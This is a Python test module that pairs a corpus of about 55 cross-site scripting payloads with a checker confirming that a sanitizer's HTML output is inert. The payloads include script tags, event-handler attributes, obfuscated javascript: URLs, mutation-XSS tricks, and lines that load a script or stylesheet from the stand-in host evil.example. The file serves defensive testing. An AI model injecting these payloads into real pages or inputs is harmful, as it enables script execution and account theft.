"""A corpus of XSS payloads and a check that sanitised HTML is inert."""

import re
from html.parser import HTMLParser

from adapters.content.html_sanitizer import TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="//evil.example/files/x.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)//",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    '<img """><script>alert(1)</script>">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<span class="math" data-latex="\\href{javascript:alert(1)}{x}">x</span>',
    '<div data-latex="x" onmouseover="alert(1)">x</div>',
    '<p><a href="https://ok.example" onclick="alert(1)" target="_top">ok</a></p>',
    '<img src="https://ok.example/a.png" onload="alert(1)" style="x:expression(alert(1))">',
    '<span class="x" id="__proto__" name="location">clobber</span>',
]

_DANGEROUS_URL = re.compile(r"^(javascript|vbscript|data|file|blob):", re.IGNORECASE)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def problems(html: str) -> list[str]:
    """Why ``html`` is not inert (empty when it is)."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    found = []
    for tag, attrs in collector.tags:
        if tag not in TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "id", "name",
                                                 "xlink:href", "action", "background"):
                found.append(f"attribute {name} on <{tag}>")
            text = re.sub(r"[\x00-\x20]", "", value or "")
            if name in ("href", "src") and _DANGEROUS_URL.match(text):
                found.append(f"{name}={value!r}")
            if name == "src" and not (text.startswith("/files/")
                                      or text.lower().startswith("https://")):
                found.append(f"src={value!r}")
            if name == "data-latex" and "\\href" in (value or ""):
                found.append("data-latex with \\href")
        if tag == "a" and "href" in attrs and "noopener" not in (attrs.get("rel") or ""):
            found.append("link without rel=noopener")
    if re.search(r"<\s*script", html, re.IGNORECASE):
        found.append("script tag")
    return found
